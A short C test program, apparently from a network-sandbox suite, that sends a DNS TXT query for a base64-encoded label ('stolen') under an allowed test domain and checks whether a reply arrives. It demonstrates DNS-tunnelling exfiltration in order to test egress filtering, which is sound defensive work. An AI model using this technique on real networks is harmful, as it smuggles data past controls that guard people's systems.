/* TXT records carry more, and for an allowed name too. */
#include "attack.h"
int main(int c, char **v) {
    unsigned char out[512], in[512];
    const char *server = resolver();
    struct sockaddr_in to = v4(server, 53);
    int length = question(out, "c3RvbGVu.allowed.test", 16), fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct timeval wait = {.tv_sec = 2};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    if (connect(fd, (void *)&to, sizeof to) || send(fd, out, length, 0) < 0) { failed("asking"); finish(0); }
    ssize_t n = recv(fd, in, sizeof in, 0);
    finish(n > 12 && in[7] > 0);
}
